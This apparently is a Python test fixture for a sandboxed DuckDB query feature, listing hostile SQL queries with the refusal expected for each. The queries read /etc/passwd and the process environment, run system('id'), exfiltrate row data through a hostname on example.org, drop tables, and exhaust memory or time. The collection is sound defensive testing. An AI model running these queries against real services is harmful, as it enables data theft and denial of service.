"""Queries that want what they must not have: read, write, reach out, stall. Each with how it has to end.

An ending is the kind of the refusal (`error`, `statement`, `time`, `memory` ...), or `rows` for what is answered and
harmless. `stopped` stands for a bomb that is ended by whichever limit comes first.

`{folder}` stands for a folder with files of the server, `{record}` for the live record, `{port}` for a server that
listens on this machine and must never hear anything.
"""

from __future__ import annotations

FILES = {
    "the passwords of the system": ("error", "select * from read_text('/etc/passwd')"),
    "a file as a table": ("error", "select * from '{folder}/secret.csv'"),
    "a file of Parquet as a table": ("error", "from '{folder}/secret.parquet'"),
    "read_csv": ("error", "select * from read_csv('{folder}/secret.csv')"),
    "read_csv_auto with a pattern": ("error", "select * from read_csv_auto('{folder}/*')"),
    "sniff_csv": ("error", "select * from sniff_csv('{folder}/secret.csv')"),
    "read_json": ("error", "select * from read_json('{folder}/secret.json')"),
    "read_ndjson_objects": ("error", "select * from read_ndjson_objects('{folder}/secret.json')"),
    "read_parquet": ("error", "select * from read_parquet('{folder}/secret.parquet')"),
    "the columns of a Parquet file": ("error", "select * from parquet_schema('{folder}/secret.parquet')"),
    "the metadata of a Parquet file": ("error", "select * from parquet_file_metadata('{folder}/secret.parquet')"),
    "read_blob": ("error", "select content from read_blob('{folder}/secret.csv')"),
    "a list of files": ("error", "select * from glob('{folder}/*')"),
    "a list of files as a scalar": ("error", "select unnest(glob('/*'))"),
    "the live record as a file": ("error", "select * from read_blob('{record}')"),
    "the live record as a database": ("error", "select * from read_duckdb('{record}')"),
    "the environment of the process": ("error", "select * from read_text('/proc/self/environ')"),
    "the memory map of the app": ("error", "select * from read_text('/proc/self/maps')"),
    "the standard input of the process": ("error", "select * from read_csv('/dev/stdin')"),
    "a descriptor of the process": ("error", "select * from read_blob('/proc/self/fd/1')"),
    "a device that never ends": ("error", "select * from read_blob('/dev/zero')"),
    "a file by its name in a parameter": ("error", "select * from read_text($file)"),
    "a file in a subquery": ("error", "select (select content from read_text('/etc/passwd'))"),
    "a file in a lateral join": ("error", "select * from lab, lateral (select * from read_text('/etc/hostname'))"),
    "a file through query()": ("error", "select * from query('select * from read_text(''/etc/passwd'')')"),
    "a file through query_table()": ("error", "select * from query_table('{folder}/secret.csv')"),
    "a file behind a CTE": ("error", "with f as materialized (select * from read_text('/etc/passwd')) select * from f"),
    "a file in a recursion": (
        "error",
        "with recursive f(c) as (select '' union all select content from read_text('/etc/passwd')) select * from f",
    ),
    "a file through serialised SQL": (
        "error",
        "select * from json_execute_serialized_sql(json_serialize_sql('select * from read_text(''/etc/passwd'')'))",
    ),
    "a file with a name in Unicode": ("error", "select * from read_text(chr(47) || 'etc' || chr(47) || 'passwd')"),
}

NETWORK = {
    "a page of the network": ("error", "select * from read_text('http://127.0.0.1:{port}/')"),
    "a table on the network": ("error", "select * from 'http://127.0.0.1:{port}/x.parquet'"),
    "a bucket": ("error", "select * from read_parquet('s3://127.0.0.1:{port}/x.parquet')"),
    "a file of a model hub": ("error", "select * from read_csv('hf://datasets/x/y.csv')"),
    "an Azure container": ("error", "select * from read_csv('azure://x/y.csv')"),
    "what leaves with the name of the host": (
        "error",
        "select * from read_text('http://' || (select max(name) from person) || '.example.org/')",
    ),
    "another DuckDB on the network": ("error", "select * from read_duckdb('http://127.0.0.1:{port}/x.duckdb')"),
    "which secret opens a bucket": ("error", "select * from which_secret('s3://x', 's3')"),
    "secrets of DuckDB": ("error", "select * from duckdb_secrets()"),
    "PostgreSQL": ("error", "select * from postgres_scan('host=127.0.0.1 port={port}', 'public', 'x')"),
    "PostgreSQL by query": ("error", "select * from postgres_query('x', 'select 1')"),
    "MySQL": ("error", "select * from mysql_query('x', 'select 1')"),
    "SQLite": ("error", "select * from sqlite_scan('{folder}/x.db', 'x')"),
    "Iceberg": ("error", "select * from iceberg_scan('http://127.0.0.1:{port}/')"),
    "Delta": ("error", "select * from delta_scan('{folder}')"),
    "a workbook": ("error", "select * from read_xlsx('{folder}/x.xlsx')"),
    "a shapefile": ("error", "select * from st_read('{folder}/x.shp')"),
}

STATEMENTS = {
    "two statements": ("statement", "select 1; select 2"),
    "a write behind a SELECT": ("statement", "select 1; drop table lab"),
    "a write behind a comment": ("statement", "select 1 /* ; */; delete from lab"),
    "no statement": ("statement", ""),
    "only a comment": ("statement", "-- select 1"),
    "INSERT": ("statement", "insert into lab (name) values ('x')"),
    "UPDATE": ("statement", "update lab set name = 'x'"),
    "DELETE": ("statement", "delete from lab"),
    "MERGE": ("statement", "merge into lab using lab as l on l.id = lab.id when matched then delete"),
    "CREATE TABLE": ("statement", "create table x as select 1"),
    "CREATE TEMP TABLE": ("statement", "create temp table x as select 1"),
    "CREATE MACRO": ("statement", "create macro f(a) as a + 1"),
    "CREATE SECRET": ("statement", "create secret (type s3, key_id 'x', secret 'y')"),
    "DROP": ("statement", "drop table lab"),
    "ALTER": ("statement", "alter table lab add column x integer"),
    "TRUNCATE": ("statement", "truncate lab"),
    "COPY out": ("statement", "copy lab to '{folder}/out.csv'"),
    "COPY a query out": ("statement", "copy (select * from person) to '{folder}/out.parquet' (format parquet)"),
    "COPY in": ("statement", "copy lab from '{folder}/secret.csv'"),
    "EXPORT": ("statement", "export database '{folder}/out'"),
    "IMPORT": ("statement", "import database '{folder}'"),
    "ATTACH the live record": ("statement", "attach '{record}' as r"),
    "ATTACH a new file": ("statement", "attach '{folder}/new.duckdb' as n"),
    "DETACH": ("statement", "detach memory"),
    "USE": ("statement", "use system"),
    "SET": ("statement", "set enable_external_access = true"),
    "SET what is locked": ("statement", "set lock_configuration = false"),
    "SET GLOBAL": ("statement", "set global memory_limit = '100GB'"),
    "RESET": ("statement", "reset memory_limit"),
    "SET VARIABLE": ("statement", "set variable x = (select max(name) from person)"),
    "PRAGMA": ("statement", "pragma database_list"),
    "PRAGMA that writes": ("statement", "pragma enable_profiling = 'json'"),
    "INSTALL": ("statement", "install httpfs"),
    "LOAD": ("statement", "load '{folder}/x.duckdb_extension'"),
    "CALL": ("statement", "call pragma_version()"),
    "CALL a log": ("statement", "call enable_logging(storage = 'file', storage_path = '{folder}/log')"),
    "CHECKPOINT": ("statement", "checkpoint"),
    "VACUUM": ("statement", "vacuum"),
    "BEGIN": ("statement", "begin"),
    "PREPARE": ("statement", "prepare x as select 1"),
    "EXECUTE": ("statement", "execute x"),
    "EXPLAIN ANALYZE": ("statement", "explain analyze select 1"),
    "PIVOT that makes a type": ("statement", "pivot lab on state using count(*)"),
}

WRITES = {
    "a DELETE in a CTE": ("error", "with gone as (delete from lab returning *) select * from gone"),
    "an INSERT in a CTE": ("error", "with n as (insert into theme (name) values ('x') returning *) select * from n"),
    "an UPDATE in a CTE": ("error", "with n as (update person set name = 'x' returning *) select count(*) from n"),
    "a DELETE in a subquery": ("error", "select * from (delete from lab returning *)"),
    "a DELETE through query()": ("error", "select * from query('with g as (delete from lab returning *) from g')"),
    "a DROP through query()": ("error", "select * from query('drop table lab')"),
    "a write through serialised SQL": (
        "error",
        "select * from json_execute_serialized_sql(json_serialize_sql('drop table lab'))",
    ),
    "a checkpoint as a function": ("any", "select * from force_checkpoint()"),
    "a log as a function": ("error", "select * from enable_logging()"),
    "a line in a log": ("rows", "select write_log('x')"),
    "the log": ("any", "select * from duckdb_logs()"),
    "a sequence": ("error", "select nextval('x')"),
    "a variable that another set": ("rows", "select getvariable('x')"),
    "an external resource": ("any", "select * from create_external_resource('x')"),
    "an external resource registered": ("error", "select * from register_external_resource('x', 'y')"),
    "a database copied": ("error", "select * from copy_database('{record}', '{folder}/copy.duckdb')"),
    "a database imported": ("error", "select * from import_database('{folder}')"),
    "settings changed by a function": ("error", "select set_config('memory_limit', '100GB', false)"),
    "a table of PostgreSQL's": ("error", "select pg_read_file('/etc/passwd')"),
    "a command of the system": ("error", "select system('id')"),
    "a variable of the environment": ("error", "select getenv('HOME')"),
}

PYTHON = {
    "a table of Python": ("error", "select * from planted_frame"),
    "an Arrow table of Python": ("error", "select * from planted_arrow"),
    "a module of Python": ("error", "select * from json"),
    "the query as a table": ("error", "select * from sql"),
    "pandas by its address": ("error", "select * from pandas_scan(140000000000000)"),
    "Arrow by its address": ("error", "select * from arrow_scan(140000000000000, 140000000000000, 140000000000000)"),
    "Arrow by a forged pointer": ("error", "select * from arrow_scan(1::pointer, 2::pointer, 3::pointer)"),
    "Arrow of Python": ("error", "select * from python_arrow_scan(140000000000000)"),
    "a function of Python": ("error", "select * from python_map_function((select 1))"),
}

OTHERS = {
    "e-mail addresses": ("error", "select email from person"),
    "e-mail addresses by *": ("rows", "select * from person"),
    "accounts": ("error", "select * from account"),
    "accounts by their schema": ("error", "select * from main.account"),
    "the views of the record": ("error", "select * from live.person"),
    "passwords": ("error", "select password_hash from account"),
    "sessions": ("error", "select * from sign_in_session"),
    "tokens": ("error", "select * from api_token"),
    "calendar feeds": ("error", "select * from calendar_feed"),
    "the log of changes": ("error", "select * from event"),
    "settings of the coop": ("error", "select * from setting"),
    "evaluations": ("error", "select * from evaluation"),
    "answers of evaluators": ("error", "select * from evaluation_answer"),
    "notes of the staff": ("error", "select * from lab_note"),
    "tasks of the staff": ("error", "select * from lab_task"),
    "drafts of recommendations": ("rows", "select * from recommendation"),
    "states of drafts": ("rows", "select * from recommendation_state"),
    "texts of recommendations": ("error", "select * from recommendation_text"),
    "drafts of requests": ("rows", "select * from budget_request"),
    "lines of drafts": ("rows", "select * from request_line"),
    "states of requests": ("rows", "select * from request_state"),
    "progress that is being written": ("rows", "select * from progress_update"),
    "meetings that are being planned": ("rows", "select * from meeting"),
    "decisions that are being prepared": ("error", "select * from board_decision"),
    "notebooks of others": ("error", "select * from notebook_cell"),
    "discussions of others": ("error", "select * from thread_message"),
    "imports": ("error", "select * from import_change"),
    "files of requests": ("error", "select * from attachment_content"),
    "everything that there is": ("rows", "select * from duckdb_tables()"),
    "everything by information_schema": ("rows", "select * from information_schema.columns"),
    "databases": ("rows", "select * from duckdb_databases()"),
    "settings of DuckDB": ("rows", "select * from duckdb_settings()"),
    "extensions": ("error", "select * from duckdb_extensions()"),
    "where extensions come from": ("error", "select * from duckdb_extension_repositories()"),
    "columns of removed rows": ("error", "select removed_at from lab"),
    "what the file still holds": ("rows", "select * from pragma_storage_info('person')"),
    "the text of this query": ("rows", "select current_query()"),
}

NESTING = {
    "parentheses": ("error", "select " + "(" * 20_000 + "1" + ")" * 20_000),
    "lists in lists": ("any", "select " + "[" * 5_000 + "1" + "]" * 5_000),
    "a long sum": ("any", "select " + "+".join("1" * 40_000)),
    "NOT and NOT": ("any", "select " + "not " * 20_000 + "true"),
    "subqueries in subqueries": ("any", "select * from " + "(select * from " * 2_000 + "lab" + ")" * 2_000),
    "CASE in CASE": ("any", "select " + "case when true then " * 3_000 + "1" + " end" * 3_000),
    "five thousand columns": ("any", "select " + ", ".join(f"{n} as c{n}" for n in range(5_000))),
    "JSON in JSON": ("any", "select json('" + "[" * 40_000 + "]" * 40_000 + "')"),
    "brackets in a pattern": (
        "any",
        "select regexp_matches(repeat('a', 100000), '" + "(" * 20_000 + "a" + ")" * 20_000 + "')",
    ),
    "a name of 90,000 signs": ("any", "select 1 as " + "x" * 90_000),
    "a query that is too long": ("long", "select '" + "x" * 200_000 + "'"),
    "an open quotation": ("error", "select '" + "x" * 50_000),
    "signs that are no text": ("error", "select '\ud800'"),
    "a zero byte": ("any", "select 'a\x00b'; drop table lab"),
    "text that turns round": ("error", "select \u202e 1 from \u2066 lab"),
}

LARGE = {
    "a hundred million rows": ("rows", "select * from range(100000000)"),
    "rows without end": ("rows", "select * from range(9223372036854775807)"),
    "a value of 10 MB": ("large", "select repeat('x', 10000000)"),
    "5,000 values of 10 kB": ("large", "select repeat('x', 10000) from range(5000)"),
    "a row of 4,000 columns, 5,000 times": (
        "large",
        "select " + ", ".join(f"'{n}' as c{n}" for n in range(4_000)) + " from range(5000)",
    ),
}

MEMORY = {
    "repeat": ("stopped", "select length(repeat('x', 4000000000))"),
    "repeat in pieces": ("stopped", "select max(length(repeat('x', 400000000) || i)) from range(20) t(i)"),
    "a list of all rows": ("stopped", "select length(list(i)) from range(2000000000) t(i)"),
    "text of all rows": ("stopped", "select length(string_agg(repeat('x', 1000), '')) from range(20000000) t(i)"),
    "the product of four tables": (
        "stopped",
        "from range(99999) a, range(99999) b, range(99999) c, range(99999) d",
    ),
    "a list sorted": ("stopped", "select list_sort(range(400000000))[1]"),
    "a million groups": (
        "stopped",
        "select count(*) from (select hash(i) from range(400000000) t(i) group by hash(i))",
    ),
    "all rows in order": (
        "stopped",
        "select * from range(400000000) t(i) order by hash(i) desc limit 10 offset 399999000",
    ),
    "distinct rows": ("stopped", "select count(distinct hash(i)) from range(400000000) t(i)"),
    "a window over all": (
        "stopped",
        "select sum(n) from (select row_number() over (order by hash(i)) as n from range(100000000) t(i))",
    ),
    "padding": ("stopped", "select length(lpad('x', 2000000000, 'y'))"),
    "JSON grown": ("stopped", "select json_array_length(to_json(range(100000000)))"),
    "a matrix": ("stopped", "select list_transform(range(20000), lambda i: range(20000))[1][1]"),
    "blobs": ("stopped", "select octet_length(cast(repeat('x', 3000000000) as blob))"),
    "hexadecimal": ("stopped", "select length(hex(repeat('x', 900000000)))"),
}

TIME = {
    "a map of a million": ("stopped", "select map_from_entries(list_transform(range(1000000), lambda i: (i, i)))"),
    "a list of a million, written": ("any", "select range(2000000)"),
    "nine hundred joins": (
        "stopped",
        "select count(*) from lab as l0 " + " ".join(f"cross join lab as l{n}" for n in range(1, 900)),
    ),
    "a recursion without end": (
        "time",
        "with recursive x(i) as (select 1 union all select i + 1 from x) select max(i) from x",
    ),
    "two recursions": (
        "stopped",
        "with recursive x(i) as (select 1 union all select i * 3 % 1000003 from x) select count(*) from x, range(1000)",
    ),
    "a product that is only counted": (
        "time",
        "select count(*) from range(100000) a, range(100000) b, range(9) c where hash(a.range, b.range, c.range) = 1",
    ),
    "levenshtein": ("stopped", "select levenshtein(repeat('ab', 100000), repeat('ba', 100001))"),
    "jaccard": (
        "stopped",
        "select sum(jaccard(repeat('ab', 5000000), repeat('ba', i::integer))) from range(5000000, 5000100) t(i)",
    ),
    "regular expressions": (
        "time",
        "select count(*) from range(100000000) t(i) where regexp_matches(repeat('a', 2000) || i, '(a|aa)+b')",
    ),
    "hashes": ("stopped", "select max(sha256(repeat('x', 1000000) || i)) from range(100000) t(i)"),
    "lists within": ("stopped", "select list_sum(list_transform(range(30000), lambda i: list_sum(range(30000 + i))))"),
    "a join on likeness": (
        "time",
        "select count(*) from range(200000) a, range(200000) b where a.range::varchar like '%' || b.range || '%'",
    ),
    "text taken apart": ("stopped", "select length(string_split(repeat('a,', 100000000), ','))"),
    "numbers that are checked": (
        "time",
        "select count(*) from range(10000000000) t(i) where sqrt(i) = floor(sqrt(i)) and hash(i) = 7",
    ),
    "a sleep": ("any", "select sleep_ms(60000)"),
}

QUICK = FILES | NETWORK | STATEMENTS | WRITES | PYTHON | OTHERS | NESTING | LARGE
SLOW = MEMORY | TIME
